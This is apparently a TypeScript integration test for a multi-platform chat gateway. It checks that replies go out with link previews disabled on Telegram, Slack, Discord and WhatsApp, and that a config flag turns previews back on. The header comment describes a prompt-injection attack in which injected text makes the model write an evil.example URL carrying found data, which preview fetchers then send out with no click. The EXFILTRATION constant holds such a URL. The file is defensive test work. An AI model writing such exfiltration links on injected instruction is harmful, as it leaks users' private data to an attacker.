/**
 * Threat (issue 27, point 6): a reply leaks through a link preview. Text injected into the
 * context can make the model write `https://evil.example/?d=<what it found>`; the chat
 * platform's own servers then fetch that URL to build a preview, with no click.
 *
 * One real `threadline serve` child with Telegram, Slack, Discord and WhatsApp, each talking
 * to its local fake through its real SDK (grammY, the Slack WebClient, discord.js) or HTTP
 * client: every send the gateway makes carries the platform's "no preview" setting by
 * default (Telegram `link_preview_options.is_disabled`, Discord's SUPPRESS_EMBEDS flag,
 * Slack `unfurl_links`/`unfurl_media: false`, WhatsApp `preview_url: false`), and
 * `adapters.<platform>.linkPreviews: true` turns previews back on.
 */
import { afterEach, describe, expect, it } from "vitest";
import { DISCORD_IDS, discordMessage, startFakeDiscordServer, type FakeDiscordServer } from "../fakes/discord/fake-discord-server.js";
import { startFakeSlackServer, type FakeSlackServer } from "../fakes/slack/fake-slack-server.js";
import { postSlackEvent, slackEvent, slackTs } from "../fakes/slack/slack-events.js";
import { startFakeTelegramServer, telegramUpdate, type FakeTelegramServer } from "../fakes/telegram/fake-telegram-server.js";
import { FAKE_PHONE_NUMBER_ID, startFakeWhatsAppServer, type FakeWhatsAppServer } from "../fakes/whatsapp/fake-whatsapp-server.js";
import { postWhatsAppWebhook, whatsappWebhook } from "../fakes/whatsapp/whatsapp-webhooks.js";
import { startFakeOpenAiServer, type FakeOpenAiServer } from "../support/fake-openai-server.js";
import { cleanupProcesses, makeHome, spawnGateway, waitFor, type GatewayProcess } from "../serve/gateway-process.js";

const TEST_TIMEOUT = 120_000;
const FAKE_KEY = "sk-fake-link-previews";
const SIGNING_SECRET = "5c1f0e2d3b4a69788796a5b4c3d2e1f0";
const APP_SECRET = "5f0e1d2c3b4a59687f6e5d4c3b2a1908";
const VERIFY_TOKEN = "threadline-verify-7f3a9c";
const TELEGRAM_USER = 111111;
const SLACK_USER = "U0ALICE001";
const WHATSAPP_USER = "16505551234";
/** Discord's SUPPRESS_EMBEDS message flag (1 << 2). */
const SUPPRESS_EMBEDS = 1 << 2;
/** What an injected instruction makes the model write: the default fake reply echoes it. */
const EXFILTRATION = "see https://evil.example/?d=the-secret-plan";

interface Fakes {
  telegram: FakeTelegramServer;
  slack: FakeSlackServer;
  discord: FakeDiscordServer;
  whatsapp: FakeWhatsAppServer;
  model: FakeOpenAiServer;
}

const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  await cleanupProcesses();
  while (closers.length > 0) await closers.pop()!().catch(() => {});
});

async function fakes(): Promise<Fakes> {
  const telegram = await startFakeTelegramServer();
  const slack = await startFakeSlackServer();
  const discord = await startFakeDiscordServer();
  const whatsapp = await startFakeWhatsAppServer();
  const model = await startFakeOpenAiServer({ apiKey: FAKE_KEY, title: null });
  closers.push(
    () => telegram.close(),
    () => slack.close(),
    () => discord.close(),
    () => whatsapp.close(),
    () => model.close(),
  );
  return { telegram, slack, discord, whatsapp, model };
}

/** The four platforms, each naming its test user in `allowedUsers`; `extra` is added to every section. */
function setupHome(f: Fakes, extra: Record<string, unknown>): Promise<string> {
  return makeHome({
    titles: { enabled: false },
    adapters: {
      apiServer: { enabled: false },
      telegram: { apiRoot: f.telegram.url, allowedUsers: [TELEGRAM_USER], ...extra },
      slack: { apiUrl: f.slack.url, allowedUsers: [SLACK_USER], ...extra },
      discord: { apiUrl: f.discord.url, gatewayUrl: f.discord.gatewayUrl, allowedUsers: [DISCORD_IDS.alice], ...extra },
      whatsapp: { apiUrl: f.whatsapp.url, phoneNumberId: FAKE_PHONE_NUMBER_ID, allowedUsers: [WHATSAPP_USER], ...extra },
    },
  });
}

function env(f: Fakes): Record<string, string> {
  return {
    OPENAI_BASE_URL: f.model.url,
    OPENAI_API_KEY: FAKE_KEY,
    THREADLINE_MODEL: "fake-model",
    TELEGRAM_BOT_TOKEN: f.telegram.token,
    SLACK_BOT_TOKEN: f.slack.botToken,
    SLACK_SIGNING_SECRET: SIGNING_SECRET,
    DISCORD_BOT_TOKEN: f.discord.token,
    WHATSAPP_ACCESS_TOKEN: f.whatsapp.accessToken,
    WHATSAPP_APP_SECRET: APP_SECRET,
    WHATSAPP_VERIFY_TOKEN: VERIFY_TOKEN,
  };
}

/** The send payloads of each platform that carry text, as the fakes recorded them. */
function sends(f: Fakes) {
  return {
    telegram: f.telegram.calls.filter((c) => c.method === "sendMessage" && c.status === 200).map((c) => c.params),
    slack: f.slack.calls.filter((c) => c.method === "chat.postMessage").map((c) => c.params),
    discord: f.discord.calls.filter((c) => c.method === "POST" && /^\/channels\/\d+\/messages$/u.test(c.path)).map((c) => c.body ?? {}),
    whatsapp: f.whatsapp.calls
      .filter((c) => c.method === "POST" && /\/messages$/u.test(c.path) && (c.body as { type?: string } | null)?.type === "text")
      .map((c) => c.body ?? {}),
  };
}

/** A DM on each platform whose reply (and a /help notice) carries a URL; waits for both answers everywhere. */
async function talk(gateway: GatewayProcess, f: Fakes): Promise<ReturnType<typeof sends>> {
  await f.discord.waitFor(() => f.discord.connected, "the discord gateway connection");
  await waitFor(() => gateway.logLines().some((l) => l["platform"] === "telegram" && "bot" in l) || null, {
    what: "the telegram adapter",
    describe: () => gateway.output(),
  });
  let n = 0;
  for (const text of [`tell them ${EXFILTRATION}`, "/help"]) {
    n += 1;
    f.telegram.pushUpdate(telegramUpdate("update-private-text", { message_id: n, text }));
    const slack = await postSlackEvent(`${gateway.url}/slack/events`, slackEvent("event-message-im", { ts: slackTs(), text }), {
      signingSecret: SIGNING_SECRET,
    });
    expect(slack.status).toBe(200);
    f.discord.pushMessage(discordMessage("message-dm", { id: String(1500000000000000100n + BigInt(n)), content: text }));
    const whatsapp = await postWhatsAppWebhook(
      `${gateway.url}/whatsapp/webhook`,
      whatsappWebhook("webhook-text", { message: { id: `wamid.preview${n}`, from: WHATSAPP_USER, text: { body: text } }, contact: { wa_id: WHATSAPP_USER } }),
      { appSecret: APP_SECRET },
    );
    expect(whatsapp.status).toBe(200);
    await waitFor(
      () => {
        const now = sends(f);
        return now.telegram.length >= n && now.slack.length >= n && now.discord.length >= n && now.whatsapp.length >= n;
      },
      { what: `answer ${n} on every platform`, timeoutMs: 30_000, describe: () => `${JSON.stringify(sends(f))}\n${gateway.output()}` },
    );
  }
  const all = sends(f);
  // The reply really carries the URL a preview would fetch.
  expect(JSON.stringify(all.telegram)).toContain("evil.example");
  expect(JSON.stringify(all.slack)).toContain("evil.example");
  expect(JSON.stringify(all.discord)).toContain("evil.example");
  expect(JSON.stringify(all.whatsapp)).toContain("evil.example");
  return all;
}

describe("link previews (zero-click exfiltration)", () => {
  it(
    "every reply and notice goes out with previews off on Telegram, Slack, Discord and WhatsApp by default",
    async () => {
      const f = await fakes();
      const gateway = await spawnGateway({ home: await setupHome(f, {}), env: env(f) });
      const all = await talk(gateway, f);
      for (const params of all.telegram) expect(params["link_preview_options"], JSON.stringify(params)).toEqual({ is_disabled: true });
      for (const params of all.slack) {
        expect(params["unfurl_links"], JSON.stringify(params)).toBe(false);
        expect(params["unfurl_media"], JSON.stringify(params)).toBe(false);
      }
      for (const body of all.discord) expect((Number(body["flags"] ?? 0) & SUPPRESS_EMBEDS) !== 0, JSON.stringify(body)).toBe(true);
      for (const body of all.whatsapp) expect((body["text"] as { preview_url?: unknown }).preview_url, JSON.stringify(body)).toBe(false);
    },
    TEST_TIMEOUT,
  );

  it(
    "adapters.<platform>.linkPreviews: true turns previews back on",
    async () => {
      const f = await fakes();
      const gateway = await spawnGateway({ home: await setupHome(f, { linkPreviews: true }), env: env(f) });
      const all = await talk(gateway, f);
      for (const params of all.telegram)
        expect((params["link_preview_options"] as { is_disabled?: boolean } | undefined)?.is_disabled ?? false, JSON.stringify(params)).toBe(false);
      for (const params of all.slack) {
        expect(params["unfurl_links"], JSON.stringify(params)).toBe(true);
        expect(params["unfurl_media"], JSON.stringify(params)).toBe(true);
      }
      for (const body of all.discord) expect(Number(body["flags"] ?? 0) & SUPPRESS_EMBEDS, JSON.stringify(body)).toBe(0);
      for (const body of all.whatsapp) expect((body["text"] as { preview_url?: unknown }).preview_url, JSON.stringify(body)).toBe(true);
    },
    TEST_TIMEOUT,
  );
});
